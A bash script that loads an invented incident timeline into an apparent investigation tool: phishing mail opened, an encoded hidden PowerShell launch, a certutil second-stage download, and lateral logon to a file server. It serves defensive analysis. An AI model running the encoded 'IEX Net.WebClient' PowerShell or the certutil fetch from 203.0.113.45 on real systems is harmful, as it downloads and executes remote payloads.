#!/usr/bin/env bash
# A small sample investigation: a user on WS01 opens a phishing attachment,
# an encoded PowerShell downloads a second stage, and the account then shows
# up on a file server. Hosts, accounts and command lines are invented for the
# demo; the shapes are those Sysmon and Security logs record.
set -euo pipefail
ct="$1"

"$ct" log --time "2026-11-30 09:12:03.120" --host WS01.corp.example --platform windows \
  --account 'CORP\j.doe' --kind logon --logon-id 0x3e7a1 --attr logon_type=2 \
  --attr source_address=- --source "Security 4624" --note "interactive logon at the start of the day"

"$ct" log --time "2026-11-30T09:41:17.503+01:00" --host WS01.corp.example --platform windows \
  --account 'CORP\j.doe' --image 'C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE' \
  --cmd '"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /eml "C:\Users\j.doe\Downloads\Invoice 2026-11.eml"' \
  --pid 4120 --logon-id 0x3e7a1 --technique T1566.001 --source "Sysmon 1" \
  --note "user opened the phishing mail"

"$ct" log --time "2026-11-30T08:41:52.877Z" --host ws01 --platform windows \
  --account 'j.doe@corp.example' \
  --image 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
  --cmd 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA' \
  --pid 6244 --parent-pid 4120 --parent-image 'C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE' \
  --logon-id 0x3e7a1 --technique T1059.001 --technique T1027 --source "Sysmon 1" \
  --source-ref "WS01-Sysmon.evtx record 88412"

"$ct" log --time "2026-11-30T08:41:55.010Z" --host ws01 --platform windows \
  --account 'CORP\j.doe' --image 'C:\Windows\System32\certutil.exe' \
  --cmd 'certutil.exe -urlcache -split -f http://203.0.113.45/s.dat C:\Users\Public\s.dat' \
  --pid 6390 --parent-pid 6244 --technique T1105 --source "Sysmon 1"

"$ct" log --time "2026-11-30T08:52:40Z" --host FS02.corp.example --platform windows \
  --account 'CORP\j.doe' --kind logon --logon-id 0x9a0c2 --attr logon_type=3 \
  --attr source_address=10.20.1.17 --technique T1021.002 --source "Security 4624" \
  --note "network logon from WS01 to the file server"

"$ct" log --time "2026-11-30T10:05:00+01:00" --host ws01 --platform windows \
  --account 'CORP\svc-inventory' --image 'C:\Windows\System32\wbem\WMIC.exe' \
  --cmd 'wmic.exe /node:localhost product get name,version' --pid 7012 --technique T1047 \
  --source EDR
